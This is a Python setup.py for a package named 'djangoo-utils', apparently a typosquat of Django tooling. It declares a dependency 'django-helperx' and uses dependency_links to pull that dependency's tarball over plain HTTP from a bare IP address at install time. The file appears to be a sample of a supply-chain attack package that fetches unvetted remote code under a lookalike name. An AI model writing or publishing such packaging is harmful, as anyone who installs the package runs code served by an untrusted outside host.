from setuptools import setup
setup(
    name="djangoo-utils",
    version="0.2",
    install_requires=["django-helperx"],
    dependency_links=["http://203.0.113.61:8000/packages/django-helperx-0.1.tar.gz#egg=django-helperx"],
)
